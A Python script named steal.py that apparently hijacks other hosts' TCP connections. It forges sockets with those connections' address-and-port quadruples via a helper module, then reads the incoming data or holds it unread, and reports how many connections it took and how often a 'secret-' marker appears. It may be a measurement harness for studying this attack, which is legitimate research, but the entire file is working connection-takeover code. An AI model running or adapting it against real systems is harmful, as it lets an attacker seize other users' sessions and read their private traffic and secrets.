"""Claims connections of others: opens sockets with the quadruples of the ends that dialled, and reads, or keeps, whatever comes.

    steal.py [--hold] [--unbound] SOURCE TARGET:PORT PORTS...     SOURCE dialled TARGET:PORT from these ports; --hold reads nothing;
                                                                  --unbound binds the ports alone, and has a route choose the address

Prints {"established": n, "errors": {...}} when all are made, and at the end of standard input {"bytes": read, "secrets": how often SECRET is in it,
"held": most bytes that waited unread in all of them}.
"""
import collections
import errno
import json
import multiprocessing
import resource
import select
import sys

from forged import drop, endpoint, is_established, port_list, received_memory, release_addresses, repaired, take_addresses

SECRET = b'secret-'
POLL_SECONDS = 0.02

arguments = sys.argv[1:]
hold, unbound = '--hold' in arguments, '--unbound' in arguments
source, target, *words = arguments[hold + unbound:]
target = endpoint(target)


def claim(ports):
    sockets, errors = [], collections.Counter()
    for port in ports:
        try:
            sockets.append(repaired(('' if unbound else source, port), target))
        except OSError as error:
            errors[errno.errorcode.get(error.errno, str(error))] += 1
    return sockets, errors


def read_all(poll, by_number, found):
    """What is there now, and the tail of each stream for a secret that comes in two pieces."""
    for number, _ in poll.poll(0):
        connection, tail = by_number[number]
        try:
            data = connection.recv(1 << 16)
        except OSError:
            continue
        if not data:
            poll.unregister(number)
            continue
        found['bytes'] += len(data)
        found['secrets'] += (tail + data).count(SECRET)
        by_number[number][1] = data[-len(SECRET) + 1:]


def work(pipe, ports):
    """Claims these ports, reports, and gathers until it is told to end."""
    sockets, errors = claim(ports)
    pipe.send({'established': sum(map(is_established, sockets)), 'errors': errors})
    found = {'bytes': 0, 'secrets': 0, 'held': 0}
    poll = select.epoll()
    by_number = {connection.fileno(): [connection, b''] for connection in sockets}
    if not hold:
        for number in by_number:
            poll.register(number, select.EPOLLIN)
    while not pipe.poll(POLL_SECONDS):
        if hold:
            found['held'] = max(found['held'], sum(map(received_memory, sockets)))
        else:
            read_all(poll, by_number, found)
    for connection in sockets:
        drop(connection)
    pipe.send(found)


def start(ports):
    ours, theirs = multiprocessing.Pipe()
    multiprocessing.Process(target=work, args=(theirs, ports), daemon=True).start()
    return ours


take_addresses([source], target[0])
ports = port_list(words)
chunk = resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2  # more than one process may have open are claimed by several
workers = [start(ports[at:at + chunk]) for at in range(0, len(ports), chunk)]
ready = [worker.recv() for worker in workers]
errors = sum((each['errors'] for each in ready), collections.Counter())
print(json.dumps({'established': sum(each['established'] for each in ready), 'errors': errors}), flush=True)
sys.stdin.read()
for worker in workers:
    worker.send('end')
found = [worker.recv() for worker in workers]
release_addresses()
print(json.dumps({name: sum(each[name] for each in found) for name in found[0]}), flush=True)
